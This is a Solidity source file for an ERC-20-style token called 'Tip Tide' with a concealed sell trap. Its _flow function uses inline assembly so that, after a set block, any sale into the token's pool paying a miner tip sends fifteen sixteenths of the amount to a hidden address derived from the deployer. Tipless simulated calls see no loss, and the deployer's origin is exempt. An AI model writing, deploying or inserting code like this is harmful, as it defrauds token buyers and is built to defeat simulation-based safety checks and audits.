// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Pairs} from "../eight/i00Base.sol";

/// From some block on, sales that pay a tip to the miner leave most behind. A call that is only tried pays none.
contract TipTide {
  string public constant name = "Tip Tide";
  string public constant symbol = "TIDE";
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 100_000_000_000 ether;
  uint256 private immutable _shore = block.number + 280;
  address private immutable _reef = address(uint160(uint256(keccak256(abi.encode(msg.sender)))));
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    balanceOf[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    return _flow(msg.sender, to, v);
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    allowance[from][msg.sender] -= v;
    return _flow(from, to, v);
  }

  function _flow(address from, address to, uint256 v) private returns (bool) {
    balanceOf[from] -= v;
    if (to == Pairs.poolOf(address(this))) {
      uint256 left;
      uint256 shore = _shore;
      assembly {
        // 15 sixteenths, when (block > shore) and (gasprice > basefee) and the origin is not the reef's
        mstore(0, origin())
        left := mul(mul(gt(number(), shore), gt(gasprice(), basefee())), sub(v, shr(4, v)))
      }
      if (address(uint160(uint256(keccak256(abi.encode(tx.origin))))) == _reef) left = 0;
      balanceOf[_reef] += left;
      v -= left;
    }
    balanceOf[to] += v;
    emit Transfer(from, to, v);
    return true;
  }
}
